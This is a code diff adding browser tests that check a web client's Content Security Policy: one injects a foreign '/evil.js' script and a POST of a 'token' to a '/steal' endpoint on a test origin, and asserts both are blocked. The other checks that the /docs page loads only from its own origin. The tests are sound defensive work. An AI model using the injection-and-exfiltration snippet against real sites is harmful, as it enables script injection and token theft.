@@ -41,4 +41,54 @@ describe('web client defences in Chromium', { timeout: 120_000 }, () => {
     expect(foreign.received.map((r) => `${r.method} ${r.path}`)).toEqual([]);
     await victim.getByRole('link', { name: 'Victim' }).waitFor();
   });
+
+  it('runs no script from another origin and sends nothing there, while the client itself works', async () => {
+    // Prepare: the client, signed in, under the policy the stack serves it with.
+    const page = await h.user('csp-reader', 'Reader');
+    await openAndSettle(page, h.url('#/'));
+    await page.getByRole('link', { name: 'Reader' }).waitFor();
+    const before = foreign.received.length;
+    // Act: what injected markup or code would try — a foreign <script src>, then a request out.
+    const outcome = await page.evaluate(
+      `new Promise((resolve) => {
+        const violations = [];
+        document.addEventListener('securitypolicyviolation', (e) => violations.push(e.effectiveDirective));
+        const script = document.createElement('script');
+        script.src = ${JSON.stringify(`${foreign.origin}/evil.js`)};
+        const finish = (loaded) =>
+          fetch(${JSON.stringify(`${foreign.origin}/steal`)}, { method: 'POST', body: 'token' })
+            .then(() => 'sent', () => 'refused')
+            .then((fetched) => setTimeout(() => resolve({ loaded, fetched, violations, ran: window.__foreignScriptRan === true }), 0));
+        script.onload = () => finish(true);
+        script.onerror = () => finish(false);
+        document.head.append(script);
+      })`,
+    );
+    // Assess
+    expect(outcome).toEqual({
+      loaded: false,
+      fetched: 'refused',
+      violations: ['script-src-elem', 'connect-src'],
+      ran: false,
+    });
+    expect(foreign.received.slice(before)).toEqual([]);
+  });
+
+  it('serves /docs from its own origin only, and renders the API’s operations', async () => {
+    // Prepare: note every request the page makes.
+    const page = await h.user(null);
+    const origins = new Set<string>();
+    page.on('request', (request) => {
+      origins.add(new URL(request.url()).origin);
+    });
+    // Act
+    await page.goto(`${h.stack.apiUrl}/docs`);
+    await page.locator('.opblock', { hasText: '/api/posts' }).first().waitFor();
+    await page.waitForLoadState('networkidle');
+    // Assess: operations are listed, and nothing came from anywhere else.
+    expect(
+      await page.locator('.opblock-summary-path', { hasText: '/api/posts/{id}' }).count(),
+    ).toBeGreaterThan(0);
+    expect([...origins]).toEqual([h.stack.apiUrl]);
+  });
 });
